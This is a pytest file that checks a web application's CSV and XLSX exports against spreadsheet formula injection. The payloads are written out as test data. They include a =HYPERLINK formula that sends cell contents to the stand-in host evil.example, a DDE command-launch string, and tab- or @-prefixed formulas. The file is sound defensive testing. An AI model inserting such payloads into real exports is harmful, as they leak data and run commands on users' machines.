"""Exports that cannot execute (issue 16, finding 8).

A data value ``=HYPERLINK(...)`` became a live formula in the XLSX export and a raw formula
cell in the CSV exports. Every CSV and XLSX path (analysis and report downloads, the API's CSV
results, the simulation CSV, the audit trail) now writes such text with a leading apostrophe,
as a text cell; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import polars as pl
import pytest

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PAYLOADS = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
NEGATIVE = -0.125


def test_helper_neutralises_text_and_keeps_numbers() -> None:
    from setara_web.spreadsheet import neutralise, neutralise_frame

    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    for harmless in ("-12.5", "+3", "1e-4", "-", "Jawa Barat", "", "-1.5E+3", 7, -2.5, None):
        assert neutralise(harmless) == harmless
    assert neutralise("-1\n") == "'-1\n"  # not a plain number: a trailing newline is not allowed
    frame = pl.DataFrame(
        {"name": [*PAYLOADS, "-12.5", "-", "ok", None], "estimate": [NEGATIVE] * 10}
    )
    out = neutralise_frame(frame)
    assert out["name"].to_list() == [
        *("'" + p for p in PAYLOADS),
        "-12.5",
        "-",
        "ok",
        None,
    ]
    assert out["estimate"].dtype == pl.Float64
    assert out["estimate"].to_list() == [NEGATIVE] * 10
    # The scalar and the vectorised forms agree on every value.
    assert out["name"].to_list() == [neutralise(v) for v in frame["name"].to_list()]


@pytest.fixture
def hostile_analysis(world: dict[str, Any]) -> Any:
    """The shared analysis with data values and a title that are formulas."""

    analysis = world["analysis"]
    result = analysis.result
    rows = [row for table in result["breakdowns"].values() for row in table]
    assert len(rows) > len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=False):
        row["name"] = payload
        row["group"] = payload
    result["breakdowns"]["sex"][0]["estimate"] = NEGATIVE
    analysis.result, analysis.title = result, "=1+1 title"
    analysis.save()
    analysis.refresh_from_db()
    return analysis


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def _check_csv(body: bytes) -> None:
    rows = _csv_cells(body)
    header = rows[0]
    cells = [cell for row in rows[1:] for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells
        assert payload not in cells
    assert not [c for c in cells if c and c[0] in "=+@\t\r"]
    estimates = [row[header.index("estimate")] for row in rows[1:]]
    assert str(NEGATIVE) in estimates  # a negative number is written as a number


@pytest.mark.parametrize(
    "url",
    [
        lambda w: f"/analyses/{w['analysis'].pk}/export.csv",
        lambda w: f"/reports/{w['report'].pk}/export.csv",
        lambda w: f"/api/analyses/{w['analysis'].pk}/results?format=csv",
    ],
    ids=["analysis", "report", "api"],
)
def test_analysis_csv_exports(
    world: dict[str, Any], hostile_analysis: Any, as_persona: Any, url: Any
) -> None:
    response = as_persona("reader").get(url(world))
    assert response.status_code == 200
    _check_csv(response.content)


def test_analysis_xlsx_export_has_no_formula(
    world: dict[str, Any], hostile_analysis: Any, as_persona: Any
) -> None:
    import openpyxl

    response = as_persona("reader").get(f"/analyses/{world['analysis'].pk}/export.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # XLSX stores a carriage return as the escape _x000D_ (Excel reads it back, openpyxl not).
    texts = {str(c.value).replace("_x000D_", "\r") for c in cells if c.data_type == "s"}
    for payload in PAYLOADS:
        assert "'" + payload in texts
    assert "'=1+1 title" in texts
    # the negative estimate (in the sex breakdown, whose sheet name is translated) stays a number
    assert any(c.data_type == "n" and c.value == NEGATIVE for c in cells)


@pytest.mark.parametrize(
    "url",
    [
        lambda w: f"/simulations/{w['simulation'].pk}/export.csv",
        lambda w: f"/api/simulations/{w['simulation'].pk}/results?format=csv",
    ],
    ids=["page", "api"],
)
def test_simulation_csv_exports(world: dict[str, Any], as_persona: Any, url: Any) -> None:

    sim = world["simulation"]
    result = sim.result
    first = result["tables"]["programmes"][0]
    text_keys = [k for k, v in first.items() if isinstance(v, str)]
    assert text_keys
    first[text_keys[0]] = HOSTILE
    sim.result = result
    sim.save()
    response = as_persona("reader").get(url(world))
    assert response.status_code == 200
    cells = [cell for row in _csv_cells(response.content) for cell in row]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells
    numbers = [c for c in cells if c.startswith("-")]
    assert all(float(c) < 0 for c in numbers)  # negative numbers are written as numbers


def test_audit_csv_export(world: dict[str, Any], as_persona: Any) -> None:
    from audit.actions import record
    from audit.models import Action
    from django.db import transaction

    with transaction.atomic():
        record(
            Action.UPDATE,
            actor_name="@evil",
            agency_id=world["agencies"]["alpha"].pk,
            object_type="dataset",
            object_repr=HOSTILE,
        )
    response = as_persona("admin").get("/audit/export.csv")
    assert response.status_code == 200
    cells = [cell for row in _csv_cells(response.content) for cell in row]
    assert "'" + HOSTILE in cells and "'@evil" in cells
    assert HOSTILE not in cells and "@evil" not in cells
